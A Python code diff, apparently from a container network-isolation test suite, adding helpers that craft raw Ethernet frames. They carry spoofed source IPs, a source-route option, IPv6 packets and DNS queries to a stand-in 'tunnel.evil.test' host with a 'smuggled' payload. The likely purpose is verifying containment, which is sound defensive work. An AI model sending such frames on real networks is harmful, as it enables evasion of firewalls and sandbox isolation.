@@ -94,6 +94,11 @@ def ask(name, server):
     return udp(server, 53, question.decode("latin-1"))[7].encode()[0]
 
 
+def reaches(host, port):
+    connect(host, port).close()
+    return True
+
+
 def ask_raw(name, kind, server="10.0.2.3"):
     """The answer's code and number of records."""
     question = struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + b"".join(
@@ -164,6 +169,56 @@ def frames(destination):
         sent += 1
     time.sleep(0.5)
     return sent
+
+
+def packet6(source, destination, port, data):
+    ends = socket.inet_pton(socket.AF_INET6, source) + \
+        socket.inet_pton(socket.AF_INET6, destination)
+    head = struct.pack(">HHH", 5555, port, 8 + len(data))
+    total = checksum(ends + struct.pack(">II", 8 + len(data), 17) + head +
+                     b"\0\0" + data)
+    return struct.pack(">IHBB", 6 << 28, 8 + len(data), 17, 64) + ends + \
+        head + struct.pack(">H", total) + data
+
+
+def wires(gateway, other, outside, outside6):
+    """The same over the wire to a named network; questions to its name server,
+    too, as if other had them."""
+    payload = datagram(99, b"smuggled")
+    question = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"".join(
+        bytes([len(label)]) + label for label in (b"tunnel", b"evil", b"test")
+    ) + b"\0\0\1\0\1"
+    device = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+    device.bind(("eth1", 0))
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+        s.sendto(b"who has it?", (gateway, 9))
+    time.sleep(0.2)
+    with open("/proc/net/arp") as file:
+        rows = [line.split() for line in file]
+    theirs, = [bytes.fromhex(row[3].replace(":", "")) for row in rows
+               if row[0] == gateway]
+    mac = theirs + device.getsockname()[4]
+    ours = socket.inet_ntoa(mac[8:])  # as is every container's
+    route = b"\x83\x07\x04" + socket.inet_aton(outside) + b"\0"
+    frames = [mac + b"\x08\x00" + packet(outside, payload, source=source)
+              for source in (ours, other, gateway, outside, "10.0.2.100")]
+    frames += [
+        b"\xff" * 6 + mac[6:] + b"\x08\x00" + packet(outside, payload,
+                                                    source=ours),
+        mac + b"\x08\x00" + packet(gateway, payload, source=ours,
+                                   options=route),
+        mac + b"\x08\x00" + packet("10.0.2.2", payload, source=ours),
+        mac + b"\x86\xdd" + packet6("fd09::2", outside6, 99, b"smuggled"),
+        mac + b"\x86\xdd" + packet6("fd09::2", "fd09::1", 53, question),
+        theirs + b"\x02\x42" + socket.inet_aton(other) + b"\x08\x00" +
+        packet(outside, payload, source=other)]
+    frames += [mac + b"\x08\x00" + packet(gateway, datagram(53, question),
+                                          source=source)
+               for source in (ours, other, gateway)]
+    for frame in frames:
+        device.send(frame)
+    time.sleep(0.5)
+    return len(frames)
 
 
 def urgent(host, other, port=80):
